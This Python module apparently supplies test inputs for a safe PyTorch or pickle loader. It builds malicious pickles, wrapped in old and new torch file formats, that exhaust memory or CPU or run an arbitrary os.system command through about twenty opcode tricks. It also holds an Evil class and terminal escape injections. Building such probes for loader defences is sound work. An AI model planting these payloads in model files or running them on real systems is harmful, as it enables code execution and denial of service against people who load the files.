"""Pickles that attack their reader, alone and in files of torch."""

import io
import os
import pickle
import struct
import zipfile

# As long as a pickle may be, nearly.
LONG = 4_000_000

TWICE = b")" + b"q\x00h\x00\x86" * 60  # leaves 2^60 tuples in one
DEEP = b")" + b"\x85" * 1_000_000  # and this a million in each other
MAPPING = b"ccollections\nOrderedDict\n"
REBUILD = b"ctorch._utils\n_rebuild_tensor_v2\n"
NUMBER = b"\x8a\xff" + b"\x7f" * 255  # an integer of 2,039 bits
STORAGE = (
  b"(" + b"U\x07storagectorch\nFloatStorage\nU\x010U\x03cpu" + b"K\x06tQ"
)
VIEW = b"(" + STORAGE + b"K\x00K\x06\x85K\x01\x85"  # its arguments, but the end
TENSOR = REBUILD + VIEW + b"tR"
# `hash` of all multiples of this is 0.
PRIME = 2**61 - 1


class Evil:
  """Runs a command when it is unpickled."""

  def __init__(self, command: str):
    self.command = command

  def __reduce__(self):
    return os.system, (self.command,)


def named(name: str) -> bytes:
  """A pickle's string."""
  return b"X" + struct.pack("<I", len(name)) + name.encode()


def heavy() -> dict[str, bytes]:
  """Programs that stay within what torch writes, yet hang or fill memory.

  They find a storage of six float32 numbers under the key 0.
  """
  pairs = b"".join(b"K\x00N\x86" for _ in range(50_000))
  names = b"".join(named(f"{i:x}") + b"h\x01" for i in range(50_000))
  collisions = b"".join(
    b"\x8a\x0c" + (PRIME * i).to_bytes(12, "little") + b"N"
    for i in range(1, 100_000)
  )
  return {
    "mapping named by 2^60 tuples": b"}" + TWICE + b"Ns.",
    "mapping named by a deep tuple": b"}" + DEEP + b"Ns.",
    "pair of 2^60 tuples": MAPPING + b"]](" + TWICE + b"Nea\x85R.",
    "function of 2^60 tuples": TWICE + named("x") + b"\x93.",
    "shape of 2^60 tuples": REBUILD + b"(" + STORAGE + b"K\x00" + TWICE
    + b"K\x01\x85tR.",
    "deep list": b"]" * 1_000_000 + b"a" * 999_999 + b".",
    "colliding names": b"}(" + collisions + b"u.",
    "pairs copied": b"](" + pairs + b"eq\x01"
    + (MAPPING + b"h\x01\x85R") * 60_000 + b".",
    "mapping copied": b"}q\x01" + (MAPPING + b"h\x01\x85R") * 60_000 + b".",
    "long arguments": REBUILD + b"q\x02" + VIEW + b"N" * 500_000 + b"tq\x03"
    + b"h\x02h\x03R" * 100_000 + b".",
    "long shape": REBUILD + b"(" + STORAGE + b"K\x00(" + NUMBER + b"q\x01"
    + b"h\x01" * 500_000 + b"tq\x02h\x02tR.",
    "one mapping, many names": b"}(" + TENSOR + b"q\x01" + names
    + named("x") + b"h\x01uq\x04}(" + names.replace(b"h\x01", b"h\x04") + b"u.",
    "many tensors": REBUILD + b"q\x02" + VIEW + b"tq\x03("
    + b"h\x02h\x03R" * 200_000 + b"t.",
    "many mappings": b"(" + b"}\x94" * (LONG // 2) + b"t.",
    "many marks": b"(" * LONG + b".",
    "number 2^32 - 1": b"}r\xff\xff\xff\xff.",
    "frame of 1 TB": b"\x95" + struct.pack("<Q", 2**40) + b"N.",
    "text of 2 GB": b"X\xff\xff\xff\x7fabc.",
    "bytes of 4 EB": b"\x8e" + struct.pack("<Q", 2**62) + b"abc.",
    "bytearray of 16 GB": b"\x96" + struct.pack("<Q", 2**34) + b"abc.",
    "escapes": b"c\x1b[31m\x1b[2J\nsystem\n.",
    "a name of two lines": named("os\nError") + named("system\n") + b"\x93.",
    "a long name": b"c" + b"o" * 1_000_000 + b"\nsystem\n.",
    "a storage with a long key": b"(" + named("storage")
    + b"ctorch\nFloatStorage\n" + named("k" * 1_000_000) + b"NK\x06tQ.",
    "a mapping in itself": b"}q\x01" + named("a") + b"h\x01s.",
  }  # fmt: skip


def code(command: str) -> dict[str, bytes]:
  """Programs with which Python's own reader, and torch's, run a command."""
  text = named(command)
  line = b"V" + command.encode() + b"\n"
  call = b"(" + text + b"t"
  return {
    "GLOBAL and REDUCE": b"cos\nsystem\n" + call + b"R.",
    "STACK_GLOBAL": named("os") + named("system") + b"\x93" + call + b"R.",
    "INST": b"(" + line + b"ios\nsystem\n.",
    "OBJ": b"(cos\nsystem\n" + line + b"o.",
    "NEWOBJ": b"cos\nsystem\n" + call + b"\x81.",
    "NEWOBJ_EX": b"cos\nsystem\n" + call + b"}\x92.",
    "getattr": b"c__builtin__\ngetattr\n(cposixpath\nos\n" + named("system")
    + b"tR" + call + b"R.",
    "attribute of what may be named": named("argparse")
    + named("Namespace.__init__.__globals__") + b"\x93.",
    "BUILD of a function": REBUILD + b"N}" + named("__defaults__")
    + b"(cos\nsystem\nts\x86b.",
    "BUILD of a class": b"cargparse\nNamespace\nN}" + named("__new__")
    + b"cos\nsystem\ns\x86b.",
    "EXT1": b"\x82\x01.",
    "PERSID": b"P" + command.encode() + b"\n.",
    "BINPERSID": text + b"Q.",
    "a storage of another class": b"(" + named("storage")
    + b"cos\nsystem\n" + named("0") + b"NK\x06tQ.",
    "a function as a storage": b"(" + named("storage") + MAPPING + named("0")
    + named("cpu") + b"K\x06tQ.",
    "pickle in a storage": b"ctorch.storage\n_load_from_bytes\n" + call
    + b"R.",
    "a tensor as a function": TENSOR + b")R.",
    "a type as a function": b"ctorch\nFloatStorage\n)R.",
    "an entry of a tensor": TENSOR + b"K\x00Ns.",
    "out of band": b"\x97.",
  }  # fmt: skip


def with_part(program: bytes) -> bytes:
  """The program for files of torch before 1.6, which name parts of storages."""
  return program.replace(b"K\x06tQ", b"K\x06NtQ")


def legacy_program(*, length=6, part=b"N", size=6, wrap=b""):
  """{"a": tensor}, as Python 2 and torch before 0.4 wrote it."""
  tensor = (
    b"ctorch._utils\n_rebuild_tensor\n((U\x07storagectorch\nFloatStorage\n"
    b"U\x010U\x03cpuK%c%btQK\x00K%c\x85K\x01\x85tR" % (length, part, size)
  )
  if wrap:
    tensor = b"ctorch.nn.parameter\nParameter\n" + tensor + b"\x85R" + wrap
  pairs = b"]](U\x01a" + tensor + b"ea"
  return MAPPING + pairs + b"\x85R}b."


def legacy(program: bytes, version: bytes = b"M\xe9\x03.") -> bytes:
  """A file of torch before 1.6, around the pickle of its objects."""
  parts = [
    pickle.dumps(0x1950A86A20F9469CFC6C, 2),
    b"\x80\x02" + version,
    pickle.dumps({"little_endian": True}, 2),
    b"\x80\x02" + program,
    pickle.dumps(["0"], 2),
  ]
  return b"".join(parts) + (6).to_bytes(8, "little") + bytes(24)


def torch_zip(program: bytes) -> bytes:
  """A file of torch from 1.6 on, around a pickle."""
  file = io.BytesIO()
  with zipfile.ZipFile(file, "w") as archive:
    archive.writestr("archive/data.pkl", b"\x80\x02" + program)
    archive.writestr("archive/data/0", bytes(24))
  return file.getvalue()
